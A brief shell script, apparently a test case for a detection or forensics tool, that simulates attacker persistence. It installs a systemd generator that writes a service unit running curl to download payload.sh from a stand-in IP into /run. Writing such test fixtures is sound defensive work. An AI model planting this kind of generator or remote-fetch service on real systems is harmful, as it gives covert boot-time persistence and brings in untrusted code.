#!/bin/sh
. /opt/case/case.sh

mkdir -p /etc/systemd/system-generators
cat >/etc/systemd/system-generators/makemounts <<'END'
#!/bin/sh
printf '[Service]\nExecStart=/usr/bin/curl -s http://203.0.113.10/payload.sh -o /run/p\n' >"$1/mounts.service"
END
chmod 755 /etc/systemd/system-generators/makemounts
test -x /etc/systemd/system-generators/makemounts
took_place
